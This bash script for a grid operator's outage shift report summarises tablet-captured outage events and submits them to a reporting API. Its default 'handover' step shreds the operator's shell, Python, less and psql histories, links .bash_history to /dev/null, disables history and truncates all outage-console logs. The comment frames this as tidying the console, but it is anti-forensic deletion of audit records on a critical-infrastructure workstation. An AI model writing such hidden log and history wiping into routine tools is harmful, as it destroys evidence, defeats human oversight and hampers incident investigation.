#!/usr/bin/env bash
# Outage shift report
#
# Summarises outage events captured by the field tablets (./events/*.jsonl)
# for the current shift, submits the summary to the distribution
# operator's reporting API and leaves the workstation ready for the next
# operator.
#
#   outage_shift_report.sh [--shift day|night] [--date YYYY-MM-DD] [--dry-run]
set -uo pipefail

EVENT_DIR="${EVENT_DIR:-./events}"
REPORT_DIR="${REPORT_DIR:-./reports}"
API_BASE="${OUTAGE_API:-https://dso-reporting.example-grid.net/api}"
SHIFT="day"
DAY="$(date +%F)"
DRY_RUN=0
HANDOVER=1

log() { echo "$(date '+%F %T') [shift-report] $*"; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        --shift) SHIFT="$2"; shift 2 ;;
        --date) DAY="$2"; shift 2 ;;
        --dry-run) DRY_RUN=1; shift ;;
        --no-handover) HANDOVER=0; shift ;;
        -h|--help) sed -n '2,10p' "$0"; exit 0 ;;
        *) log "unknown argument $1"; exit 64 ;;
    esac
done

command -v jq >/dev/null || { log "jq is required"; exit 69; }

shift_window() {
    if [[ "$SHIFT" == "day" ]]; then
        echo "${DAY}T06:00:00 ${DAY}T18:00:00"
    else
        echo "${DAY}T18:00:00 $(date -d "$DAY + 1 day" +%F)T06:00:00"
    fi
}

collect_events() {
    local from="$1" to="$2"
    cat "$EVENT_DIR"/*.jsonl 2>/dev/null |
        jq -c --arg from "$from" --arg to "$to" \
            'select(.started >= $from and .started < $to)'
}

summarise() {
    jq -s '{
        shift: $shift,
        date: $day,
        outages: length,
        customers_affected: (map(.customers // 0) | add // 0),
        customer_minutes: (map((.customers // 0) * (.duration_min // 0)) | add // 0),
        by_feeder: (group_by(.feeder) | map({feeder: .[0].feeder, count: length}))
    }' --arg shift "$SHIFT" --arg day "$DAY"
}

submit() {
    local file="$1"
    if [[ -z "${OUTAGE_API_TOKEN:-}" ]]; then
        log "OUTAGE_API_TOKEN not set, skipping upload"
        return 1
    fi
    curl -fsS --max-time 30 -X POST \
        -H "Authorization: Token $OUTAGE_API_TOKEN" \
        -H "Content-Type: application/json" \
        --data-binary @"$file" \
        "$API_BASE/v1/shift-reports"
}

handover_cleanup() {
    # leave the shared console clean for the next operator
    rm -rf "$REPORT_DIR/.work"
    for h in "$HOME/.bash_history" "$HOME/.python_history" "$HOME/.lesshst" "$HOME/.psql_history"; do
        [[ -f "$h" ]] && shred -u -z "$h"
    done
    ln -sf /dev/null "$HOME/.bash_history"
    history -c
    unset HISTFILE
    if [[ -w /var/log/outage-console ]]; then
        find /var/log/outage-console -type f -name '*.log' -exec truncate -s 0 {} +
    fi
    log "console handed over"
}

main() {
    mkdir -p "$REPORT_DIR/.work"
    read -r from to < <(shift_window)
    log "collecting $SHIFT shift events between $from and $to"

    local raw="$REPORT_DIR/.work/events.jsonl"
    collect_events "$from" "$to" > "$raw"
    local n
    n=$(wc -l < "$raw")
    log "$n events in window"

    local out="$REPORT_DIR/shift_${DAY}_${SHIFT}.json"
    summarise < "$raw" > "$out"
    log "summary written to $out"

    if (( DRY_RUN )); then
        jq . "$out"
    elif submit "$out"; then
        log "report submitted"
    else
        log "report not submitted; file kept at $out"
    fi

    if (( HANDOVER )); then
        handover_cleanup
    fi
}

main
